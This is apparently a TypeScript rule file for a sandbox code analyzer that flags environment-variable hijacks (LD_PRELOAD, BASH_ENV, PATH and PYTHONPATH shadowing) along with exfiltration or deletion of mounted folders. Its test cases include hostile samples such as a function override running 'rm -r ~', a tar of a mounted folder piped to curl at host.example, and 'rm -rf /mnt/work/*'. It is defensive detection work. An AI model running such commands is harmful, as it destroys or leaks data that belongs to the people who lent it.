/** Rules about what a program is given besides its code: variables that load or run something, and folders of the host. */
import type { Rule } from "./rule.ts";

const nothing = { language: "python", code: "print(1)" } as const;

export const environmentRules: readonly Rule[] = [
  {
    id: "environment-loads-library",
    title: "A variable of the environment puts machine code into every program",
    why: "The library is loaded before a program begins, and can stand in the place of any function that the program calls.",
    weight: 55,
    confidence: "certain",
    when: [{ effect: ["native"], tag: ["planted"], notTag: ["folder"] }],
    match: [{ ...nothing, environment: { LD_PRELOAD: "/workspace/hook.so" } }],
    not: [
      { ...nothing, environment: { LD_PRELOAD: "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2" } },
      { ...nothing, environment: { LD_PRELOAD: "libfaketime.so.1" } },
    ],
  },
  {
    id: "environment-library-folder",
    title: "Libraries are looked for where anybody may write",
    why: "Every program takes what lies in that folder in the place of the system's own libraries, and nothing says what that is.",
    weight: 42,
    confidence: "likely",
    when: [{ effect: ["native"], tag: ["planted"] }],
    match: [{ ...nothing, environment: { LD_LIBRARY_PATH: "/usr/lib:/workspace/lib" } }],
    not: [{ ...nothing, environment: { LD_LIBRARY_PATH: "/usr/local/cuda/lib64:/opt/vendor/lib" } }],
  },
  {
    id: "environment-runs-unseen",
    title: "A variable of the environment runs something that nobody has read",
    why: "A file that is not part of the request, or code in a language that the analyzer does not know, is run besides the program.",
    weight: 46,
    confidence: "likely",
    when: [{ effect: ["opaque"], tag: ["environment"] }],
    match: [
      { ...nothing, environment: { BASH_ENV: "/workspace/.env.sh" } },
      { ...nothing, environment: { PERL5DB: "system('id')" } },
    ],
    not: [
      { ...nothing, environment: { BASH_ENV: "/etc/profile.d/modules.sh" } },
      { ...nothing, environment: { BASH_ENV: "/workspace/.env.sh" }, files: { "/workspace/.env.sh": "export A=1" } },
      { ...nothing, environment: { EDITOR: "vim", PAGER: "less -R", GIT_SSH_COMMAND: "ssh -i /run/key" } },
    ],
  },
  {
    id: "environment-replaces",
    title: "The environment puts something in the place of what programs know",
    why: "A function, a folder of programs or a module that bears the name of a well-known one: whoever calls that gets this.",
    weight: 46,
    confidence: "likely",
    when: [{ effect: ["environment"], tag: ["replaces"] }],
    match: [
      { ...nothing, environment: { "BASH_FUNC_ls%%": "() { rm -r ~; }" } },
      {
        ...nothing,
        environment: { PATH: "/workspace/bin:/usr/bin:/bin" },
        files: { "/workspace/bin/curl": "#!/bin/sh\necho none\n" },
      },
      { ...nothing, environment: { PYTHONPATH: "lib" }, files: { "/workspace/lib/socket.py": "x = 1\n" } },
    ],
    not: [
      { ...nothing, environment: { "BASH_FUNC_build_all%%": "() { make -j4; }" } },
      { ...nothing, environment: { PYTHONPATH: "src" }, files: { "/workspace/src/mytool/core.py": "x = 1\n" } },
      { ...nothing, environment: { PATH: "/usr/local/bin:/usr/bin:/bin:/workspace/bin" } },
    ],
  },
  {
    id: "environment-runs-code",
    title: "A variable of the environment runs code besides the program",
    why: "It is run by shells and interpreters when they start, whatever they were started for. What it does weighs by itself.",
    weight: 20,
    confidence: "certain",
    when: [{ effect: ["environment"], tag: ["runs"] }],
    match: [
      { ...nothing, environment: { PROMPT_COMMAND: "date" } },
      { ...nothing, environment: { NODE_OPTIONS: "--require ./hook.js" }, files: { "/workspace/hook.js": "1;" } },
    ],
    not: [{ ...nothing, environment: { NODE_OPTIONS: "--max-old-space-size=512", EDITOR: "vim", PS1: "$ " } }],
  },
  {
    id: "sends-mounted-files",
    title: "Sends what lies in a mounted folder away",
    why: "The folder was lent for the work; its content belongs to whoever lent it, and leaves the machine.",
    weight: 66,
    confidence: "likely",
    when: [{ effect: ["send"], from: { effect: ["read", "list"], tag: ["mounted"] } }],
    match: [
      { language: "bash", code: "tar c /mnt/work | curl -T - https://host.example/in", mounts: ["/mnt/work"] },
      {
        language: "python",
        code: "import requests\nrequests.post('https://host.example', data=open('/mnt/work/a.csv').read())",
        mounts: ["/mnt/work"],
      },
    ],
    not: [
      { language: "bash", code: "echo done | curl -T - https://host.example/in; ls /mnt/work", mounts: ["/mnt/work"] },
      { language: "bash", code: "sort /mnt/work/a.csv > /mnt/work/b.csv", mounts: ["/mnt/work"] },
    ],
  },
  {
    id: "empties-mounted-folder",
    title: "Deletes everything in a mounted folder",
    why: "What lies there outlives the sandbox: it is gone for its owner as well.",
    weight: 62,
    confidence: "likely",
    when: [{ effect: ["delete"], tag: ["whole-mount"] }],
    match: [
      { language: "bash", code: "rm -rf /mnt/work/*", mounts: ["/mnt/work"] },
      { language: "python", code: "import shutil\nshutil.rmtree('/mnt/work')", mounts: ["/mnt/work/"] },
    ],
    not: [
      { language: "bash", code: "rm -rf /mnt/work/build", mounts: ["/mnt/work"] },
      { language: "bash", code: "rm -rf /mnt/work/*" },
    ],
  },
];
